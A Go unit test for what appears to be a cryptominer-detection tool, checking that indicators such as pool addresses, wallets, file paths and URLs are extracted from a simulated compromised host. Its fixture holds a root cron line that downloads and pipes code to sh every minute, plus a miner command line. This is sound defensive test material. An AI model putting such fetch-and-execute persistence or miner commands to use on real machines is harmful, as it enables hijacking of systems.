package explain

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"demine/internal/fact"
	"demine/internal/i18n"
)

func TestIndicators(t *testing.T) {
	wallet := "4" + strings.Repeat("8A", 47)
	cron := fact.AutostartRef("cron", "/var/spool/cron/root", "x")
	s := &Scan{
		Incidents: []Incident{{
			Implants: []Implant{
				{Kind: "process", Ref: "process:b/1@1", Name: "/var/tmp/minerd", Members: []fact.Ref{"process:b/2@2"},
					Flows: []*fact.Flow{{Indicators: []fact.Indicator{{Kind: "pool", Value: "203.0.113.7:3333"}, {Kind: "wallet", Value: "48heard"}}}}},
				{Kind: "autostart", Ref: cron, Name: "* * * * * curl http://203.0.113.66:8000/a?b=c | sh", Origin: &fact.Origin{Path: "/var/spool/cron/root", Line: 5}},
				{Kind: "key", Ref: "key:k", Name: "SHA256:abc"},
			},
			Timeline: []Event{{Message: i18n.M("event.key-used", "from", "198.51.100.4")}, {Message: i18n.M("event.port-opened", "from", "192.0.2.1")}},
		}},
		Snapshot: &fact.Snapshot{
			Process: []fact.Process{
				{Ref: "process:b/2@2", Argv: []string{"minerd", "-o", "tls://pool.example.org:443", "-u", wallet}, Sockets: []uint64{7, 8}},
				{Ref: "process:b/3@3", Argv: []string{"curl", "http://innocent.example.com/"}, Sockets: []uint64{9}},
			},
			Socket: []fact.Socket{
				{Inode: 7, State: "ESTABLISHED", Peer: netip.MustParseAddr("::ffff:203.0.113.9")},
				{Inode: 8, State: "LISTEN", Peer: netip.MustParseAddr("0.0.0.0")},
				{Inode: 9, State: "ESTABLISHED", Peer: netip.MustParseAddr("192.0.2.9")},
			},
			Autostart: []fact.Autostart{{Ref: cron, Command: "curl http://203.0.113.66:8000/a?b=c | sh"}},
		},
	}
	var got []string
	for _, i := range Indicators(s) {
		got = append(got, i.Kind+" "+i.Value)
	}
	want := []string{
		"address 198.51.100.4", "address 203.0.113.66", "address 203.0.113.9", "file /var/tmp/minerd", "key SHA256:abc",
		"pool 203.0.113.7:3333", "pool pool.example.org:443", "url http://203.0.113.66:8000/a?b=c", "url tls://pool.example.org:443", "wallet " + wallet, "wallet 48heard",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if got := Indicators(&Scan{}); len(got) != 0 {
		t.Errorf("of nothing: %v", got)
	}
}
